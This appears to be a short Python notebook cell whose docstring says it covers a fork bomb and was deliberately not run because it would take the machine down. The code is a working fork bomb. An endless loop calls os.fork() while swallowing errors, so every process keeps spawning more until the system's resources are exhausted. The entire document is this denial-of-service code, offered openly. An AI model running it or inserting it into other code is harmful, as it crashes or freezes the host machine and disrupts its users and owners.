"""A cell forks, and its children fork, and theirs.

covers: fork bomb
stock: not tried: it would take the machine down
"""

# %% top
import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
